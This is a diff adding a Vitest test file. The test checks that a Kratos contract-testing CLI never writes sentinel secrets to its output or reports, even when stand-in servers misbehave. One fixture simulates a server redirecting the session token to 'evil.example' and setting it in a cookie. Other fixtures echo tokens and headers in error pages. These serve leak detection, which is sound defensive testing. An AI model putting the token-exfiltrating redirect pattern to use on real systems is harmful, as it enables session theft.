@@ -1,0 +1,116 @@
+// No secret in any byte the suite writes: the real CLI runs with sentinel secrets against servers that fail in every
+// way (each mutant, plus servers that echo the secrets back and break the nodes that carry them), and stdout, stderr
+// and every report file are searched for each sentinel, raw and URL-encoded.
+import {execFile} from 'node:child_process';
+import {mkdtemp, readFile, readdir, rm} from 'node:fs/promises';
+import {tmpdir} from 'node:os';
+import {join} from 'node:path';
+import {fileURLToPath} from 'node:url';
+import {describe, expect, test} from 'vitest';
+import {mutants} from '../mutation/faults.js';
+import {type Fault, SECRETS, json, startStandIn} from '../mutation/stand-in.js';
+
+const root = fileURLToPath(new URL('../..', import.meta.url));
+const tsx = join(root, 'node_modules/.bin/tsx');
+
+interface Written {
+	readonly code: number | null;
+	readonly bytes: string;
+}
+
+/** Runs `contract-tests/cli.ts live` against a stand-in and returns its exit code and everything it wrote. */
+async function runCli(fault?: Fault): Promise<Written> {
+	const standIn = await startStandIn(fault);
+	const reports = await mkdtemp(join(tmpdir(), 'contract-secrets-'));
+	try {
+		const {config} = standIn;
+		const env = {
+			PATH: process.env.PATH,
+			HOME: process.env.HOME,
+			CONTRACT_REPORT_DIR: reports,
+			KRATOS_PUBLIC_URL: config.publicUrl,
+			KRATOS_SESSION_TOKEN: config.sessionToken,
+			KRATOS_COOKIE: config.cookie,
+			KRATOS_OTHER_SESSION_TOKEN: config.otherSessionToken,
+			KRATOS_EXPIRED_FLOW_ID: config.expiredFlowId,
+			KRATOS_AAL1_SESSION_TOKEN: config.aal1SessionToken,
+			KRATOS_AAL1_FLOW_ID: config.aal1FlowId,
+			KRATOS_TIMEOUT_MS: '400',
+		};
+		const {code, stdout, stderr} = await new Promise<{code: number | null; stdout: string; stderr: string}>((resolve) => {
+			execFile(tsx, [join(root, 'contract-tests/cli.ts'), 'live'], {env, cwd: root}, (error, stdout, stderr) =>
+				resolve({code: error ? ((error as {code?: number}).code ?? 1) : 0, stdout, stderr}),
+			);
+		});
+		const files = await readdir(reports);
+		expect(files.sort()).toEqual(['contract-live.html', 'contract-live.xml']);
+		const contents = await Promise.all(files.map((file) => readFile(join(reports, file), 'utf8')));
+		return {code, bytes: [stdout, stderr, ...contents].join('\n')};
+	} finally {
+		await standIn.close();
+		await rm(reports, {recursive: true, force: true});
+	}
+}
+
+const sentinels = Object.entries(SECRETS).flatMap(([name, value]) => [
+	[name, value],
+	[`${name} (URL-encoded)`, encodeURIComponent(value)],
+]);
+
+function expectNoSecret(bytes: string) {
+	for (const [name, value] of sentinels) {
+		expect(bytes.includes(value!), `${name} leaked`).toBe(false);
+	}
+}
+
+// Servers that put the secrets where a careless report would print them.
+const leaky: Record<string, Fault> = {
+	'echoes every request header in a 500 HTML page': (answer, {path, request}) =>
+		path === '/self-service/settings/flows'
+			? {status: 500, headers: {'content-type': 'text/html'}, body: `<pre>${JSON.stringify(request.headers)}</pre>`}
+			: answer,
+	'echoes the token and cookie in a JSON error reason': (answer, {path, request}) =>
+		path === '/self-service/settings/flows' && answer.status !== 200
+			? json(400, {error: {code: 400, message: `bad token ${request.headers['x-session-token']} / cookie ${request.headers.cookie}`}})
+			: answer,
+	'breaks the CSRF node, so the violation quotes it': (answer, {path}) => {
+		if (path !== '/self-service/settings/flows' || answer.status !== 200) return answer;
+		const flow = JSON.parse(answer.body);
+		flow.ui.nodes[0].attributes.node_type = 'hidden-input';
+		return {...answer, body: JSON.stringify(flow)};
+	},
+	'breaks the TOTP secret node and image, so the violations quote them': (answer, {path}) => {
+		if (path !== '/self-service/settings/flows' || answer.status !== 200) return answer;
+		const flow = JSON.parse(answer.body);
+		for (const node of flow.ui.nodes) {
+			if (node.attributes.id === 'totp_secret_key') delete node.attributes.text.id;
+			if (node.attributes.id === 'totp_qr') node.attributes.width = 'wide';
+		}
+		return {...answer, body: JSON.stringify(flow)};
+	},
+	'returns the token in a Set-Cookie and a redirect Location': (answer, {path, request}) =>
+		path === '/self-service/settings/flows'
+			? {status: 303, headers: {location: `https://evil.example/?t=${request.headers['x-session-token']}`, 'set-cookie': `leak=${request.headers['x-session-token']}`}, body: ''}
+			: answer,
+};
+
+describe('no secret is ever written', () => {
+	test('against a faithful stand-in (the flows carry CSRF and TOTP secrets)', async () => {
+		const written = await runCli();
+		expect(written.code).toBe(0);
+		expectNoSecret(written.bytes);
+	});
+
+	test.each(Object.entries(leaky))('against a server that %s', async (_, fault) => {
+		const written = await runCli(fault);
+		expect(written.code).toBe(1);
+		expect(written.bytes).toContain('[REDACTED]');
+		expectNoSecret(written.bytes);
+	});
+
+	test.each(mutants.map((mutant) => [mutant.name, mutant.fault] as const))('against the %s mutant', async (_, fault) => {
+		const written = await runCli(fault);
+		expect(written.code).toBe(1);
+		expectNoSecret(written.bytes);
+	});
+});
